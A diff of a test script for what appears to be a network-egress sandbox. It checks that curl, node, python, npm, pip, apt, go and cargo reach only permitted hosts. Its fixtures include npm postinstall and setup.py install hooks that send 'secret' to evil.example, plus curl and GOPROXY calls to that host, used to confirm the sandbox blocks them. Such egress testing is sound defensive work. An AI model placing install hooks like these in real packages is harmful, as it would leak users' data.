@@ -9,6 +9,7 @@ SLOW; else each runs as both.
 """
 import json
 import os
+import shlex
 import shutil
 import sys
 
@@ -17,61 +18,14 @@ sys.dont_write_bytecode = True
 import egress_world as world  # noqa: E402
 
 world.enter(os.path.abspath(__file__))
+import clients_inside as inside  # noqa: E402
 import clients_packages as packages  # noqa: E402
 import clients_world as clients  # noqa: E402
 import lib  # noqa: E402
 
 CA = "/repo/ca.pem"
-EVIL = "evil.example"
-POST = ("require('https').request({host: '%s', method: 'POST', path: '/take'})"
-        ".on('error', e => { console.error(e.code); %s }).end('secret')")
-SETUP = """import urllib.request
-try:
-    urllib.request.urlopen("https://%s/take", b"secret")
-except OSError as e:
-    print("TOLD", e)
-from setuptools import setup
-setup(name="posts", version="1.0", py_modules=["posts"])
-""" % EVIL
-FETCH = """const say = async u => {
-  try { return (await (await fetch(u)).text()).trim() }
-  catch (e) { return e.cause ? e.cause.code : String(e) }
-}
-console.log(JSON.stringify([await say('https://site.example/page'),
-  await say('https://evil.example/'), await say('https://44.0.1.5/page'),
-  process.env.HTTPS_PROXY ?? process.env.https_proxy ?? null]))
-"""
-PYTHON = """import asyncio, json, os, ssl, urllib.request
-def get(url):
-    try:
-        return urllib.request.urlopen(url, timeout=20).read().decode().strip()
-    except OSError as e:
-        return type(getattr(e, "reason", e)).__name__
-async def stream(host):
-    try:
-        r, w = await asyncio.open_connection(
-            host, 443, ssl=ssl.create_default_context())
-    except OSError as e:
-        return type(e).__name__
-    w.write(b"GET /page HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n" % host.encode())
-    text = (await r.read()).decode()
-    w.close()
-    return text.rsplit("\\n", 2)[-2].strip()
-print(json.dumps([get("https://site.example/page"), get("https://evil.example/"),
-    asyncio.run(stream("site.example")), asyncio.run(stream("evil.example")),
-    [k for k in os.environ if k.lower().endswith("_proxy")]]))
-"""
-APT = """mkdir -p state/lists/partial cache/archives/partial conf &&
-echo "deb [trusted=yes] $1://deb.example/ ./" >conf/list &&
-set -- -o Dir::Etc::sourcelist=/scratch/conf/list -o Dir::Etc::main=/dev/null \
-  -o Dir::Etc::parts=/dev/null -o Dir::Etc::sourceparts=/dev/null \
-  -o Dir::State=/scratch/state -o Dir::State::status=/dev/null \
-  -o Dir::Cache=/scratch/cache -o Acquire::https::CAInfo=/repo/ca.pem \
-  -o Acquire::Retries=0 -o Acquire::EnableSrvRecords=false
-apt-get "$@" update && apt-get "$@" download hello-test &&
-dpkg-deb -I hello-test*.deb | grep '^ Package' || exit
-echo "deb [trusted=yes] http://evil.example/ ./" >conf/list
-apt-get "$@" update"""
+EVIL = inside.EVIL
+PATH = "/usr/local/bin:/usr/bin:/bin"
 
 
 class World:
@@ -85,15 +39,15 @@ class World:
         site.put("site", "/page", "from the site\n")
         self.npm = packages.Npm(site)
         self.npm.add("posts", {"scripts": {"postinstall": "node post.js"}},
-                     {"post.js": POST % (EVIL, "process.exitCode = 3")})
+                     {"post.js": inside.POST % (EVIL, "process.exitCode = 3")})
         self.npm.add("hides", {"scripts": {"postinstall": "node post.js"}},
-                     {"post.js": POST % (EVIL, "")})
+                     {"post.js": inside.POST % (EVIL, "")})
         packages.pip_put(site, "alpha", "alpha-1.0-py3-none-any.whl",
                          packages.wheel("alpha", ["beta"]))
         packages.pip_put(site, "beta", "beta-1.0-py3-none-any.whl",
                          packages.wheel("beta"))
         packages.pip_put(site, "posts", "posts-1.0.tar.gz",
-                         packages.sdist("posts", SETUP))
+                         packages.sdist("posts", inside.SETUP))
         packages.git_put(site, "git", "/thing.git/", self.directory + "/git",
                          {"README": "a repository\n"})
         packages.deb_put(site, self.directory + "/hello")
@@ -171,7 +125,7 @@ def wget(w):
 
 def node_fetch(w):
     r, book = w.run("default", ["site.example:443"], [
-        "node", "/repo/fetch.mjs"], {"fetch.mjs": FETCH},
+        "node", "/repo/fetch.mjs"], {"fetch.mjs": inside.FETCH},
         ["NODE_EXTRA_CA_CERTS=" + CA],
         ["--network", "scoped", "--as-bytes", "unlimited", "--data-bytes",
          "unlimited", "--seccomp", "test"])
@@ -183,7 +137,7 @@ def node_fetch(w):
 
 def python(w):
     r, book = w.run(None, ["site.example:443"], [
-        "/usr/bin/python3", "/repo/get.py"], {"get.py": PYTHON},
+        "/usr/bin/python3", "/repo/get.py"], {"get.py": inside.PYTHON},
         ["SSL_CERT_FILE=" + CA])
     w.ok(said(r) == ["from the site", "gaierror", "from the site", "gaierror",
                      []], "urllib and asyncio of python", said(r))
@@ -279,7 +233,8 @@ def apt(w):
     for scheme, port in (("https", 443), ("http", 80)):
         del w.site.asked[:]
         r, book = w.run("apt-download", ["deb.example:%d" % port], [
-            "sh", "-c", APT, "sh", scheme], more=["--chdir", "/scratch"])
+            "sh", "-c", inside.APT, "sh", scheme],
+            more=["--chdir", "/scratch"])
         w.ok(r.json and "Package: hello-test" in r.json["stdout"] and
              "Could not resolve 'evil.example'" in
              r.json["stdout"] + r.json["stderr"],
@@ -296,8 +251,7 @@ def go(w):
         "sh", "-c", "go mod download -x all && ls /scratch/go/pkg/mod/"
         "mod.example; GOPROXY=https://evil.example/ GOFLAGS=-modcacherw "
         "GOMODCACHE=/scratch/other go mod download; echo $?"],
-        {"go.mod": "module app.example/app\n\ngo 1.18\n\n"
-                   "require mod.example/thing v1.0.0\n"},
+        {"go.mod": inside.GO_MOD},
         ["GOPROXY=https://goproxy.example", "GONOSUMDB=*", "GOFLAGS=-mod=mod",
          "SSL_CERT_FILE=" + CA])
     w.ok(r.json and r.json["stdout"] == "thing@v1.0.0\n1\n", "go mod download",
@@ -305,54 +259,94 @@ def go(w):
     w.told(r, book, ["goproxy.example"], "go mod download")
 
 
-def cargo_of(text, sparse):
-    """A crate that needs one of the registry's."""
-    index = ("sparse+https://crates.example/sparse/" if sparse
-             else "https://crates.example/index.git")
-    return {"Cargo.toml": text, "src/lib.rs": "",
-            ".cargo/config.toml":
-                '[source.crates-io]\nreplace-with = "own"\n'
-                '[source.own]\nregistry = "%s"\n'
-                '[net]\ngit-fetch-with-cli = true\n' % index}
+def has_sparse(user):
+    """Whether cargo here knows sparse registries; None: it does not run."""
+    p = lib.run([shutil.which("cargo", path=PATH), "--version"], user)
+    words = p.out.split()
+    if p.rc or len(words) < 2:
+        return None
+    return int(words[1].split(b".")[1]) >= 68
 
 
 def cargo(w):
-    p = lib.run([shutil.which("cargo", path=PATH), "--version"], w.user)
-    words = p.out.split()
-    if p.rc or len(words) < 2:
+    is_new = has_sparse(w.user)
+    if is_new is None:
         w.tap.ok(True, "cargo [%s] # SKIP it does not run here" % w.user)
         return
-    minor = int(words[1].split(b".")[1])
-    text = ('[package]\nname = "app"\nversion = "1.0.0"\nedition = "2018"\n'
-            '[dependencies]\nthing = "1"\n')
-    r, book = w.run("cargo-fetch", ["crates.example:443",
-                                    "static.example:443"], [
+    index = ("sparse+https://crates.example/" if is_new
+             else "https://crates.example/index.git")
+    r, book = w.run("cargo-fetch", ["crates.example:443"], [
         "sh", "-c", "cargo fetch && ls $CARGO_HOME/registry/src/*; "
         "curl -sS https://evil.example/; echo $?"],
-        cargo_of(text, minor >= 68),
+        {"Cargo.toml": inside.CRATE, "src/lib.rs": "",
+         ".cargo/config.toml": inside.CARGO % index},
         ["CARGO_HTTP_CAINFO=" + CA, "GIT_SSL_CAINFO=" + CA])
     w.ok(r.json and r.json["stdout"].endswith("thing-1.0.0\n6\n"),
          "cargo fetch", r.brief())
-    w.told(r, book, ["crates.example", "static.example"], "cargo fetch")
+    w.told(r, book, ["crates.example"], "cargo fetch")
 
 
-PATH = "/usr/local/bin:/usr/bin:/bin"
+# --- what the manual says ------------------------------------------------------------
+
+def the_manual(w):
+    with open(os.path.join(lib.SRC, "man/cupel-profile.1.in")) as f:
+        files, commands = inside.manual(f.read())
+    w.ok(len(commands) == 6, "the manual has examples", commands)
+    for command in commands:
+        program = shlex.split(command, comments=True)
+        program = program[program.index("--") + 1]
+        if not shutil.which(program, path=PATH) or (
+                program in ("go", "cargo") and not IS_FULL) or (
+                    program == "cargo" and not has_sparse(w.user)):
+            continue
+        more = dict(w.npm.repository("pkg0"), **{
+            "go.mod": inside.GO_MOD, "Cargo.toml": inside.CRATE,
+            "src/lib.rs": ""})
+        more.update({n: t for n, t in files.items()
+                     if "npm_config" not in command or n != ".npmrc"})
+        is_inner = clients.INNER in command
+        w.names.names["npm.example"] = [
+            [clients.INNER if is_inner else clients.ADDRESS["npm"]]]
+        r = lib.run(["env", "-C", w.repository(more), "sh", "-c",
+                     command.replace("cupel run", "exec %s run --json" %
+                                     lib.binary("cupel"))], w.user,
+                    before=world.ordinary(), clock_s=120)
+        result = json.loads(r.out or b"{}")
+        w.ok(result.get("status") == "OK" and
+             {e["verdict"] for e in result["egress"]} == {"allowed"} and
+             (not is_inner or result["egress"][0]["address"] ==
+              clients.INNER), "as the manual has it: " +
+             " ".join(shlex.split(command, comments=True)),
+             result.get("stderr") or r.brief())
+
+def npm_within(w):
+    """A registry at a private address: its name alone is not enough."""
+    w.names.names["npm.example"] = [[clients.INNER]]
+    r, book = w.run("npm-install", ["npm.example:443"], ["npm", "ci"],
+                    w.npm.repository("pkg0"), NPM + [
+                        "npm_config_fetch_retries=0"])
+    w.ok(r.status == "FAILED" and book == {
+        "npm.example": {(None, "refused", "address_range")}},
+         "npm ci: a registry at a private address that no rule names", book)
+    w.names.names["npm.example"] = [[clients.ADDRESS["npm"]]]
+
+
 CASES = ((curl, "curl"), (wget, "wget"), (node_fetch, "node"),
          (python, "python3"), (git, "git"), (npm_ci, "npm"),
          (npm_by_npmrc, "npm"), (npm_that_posts, "npm"), (pip, "pip"),
          (pip_that_posts, "pip"), (apt, "apt-get"), (go, "go"),
-         (cargo, "cargo"))
+         (cargo, "cargo"), (npm_within, "npm"), (the_manual, "npm"))
 SLOW = (go, cargo)
+IS_FULL = os.environ.get("CUPEL_TIER") != "quick"
 
 
 def main():
     tap, only = lib.Tap(), sys.argv[1:]
     w = World(tap)
     users = lib.users()
-    is_full = os.environ.get("CUPEL_TIER") != "quick"
     for i, (case, program) in enumerate(CASES):
         if (only and case.__name__ not in only) or (
-                case in SLOW and not is_full):
+                case in SLOW and not IS_FULL):
             continue
         if not shutil.which(program, path=PATH):
             tap.ok(True, "%s # SKIP %s is not installed" % (case.__name__,
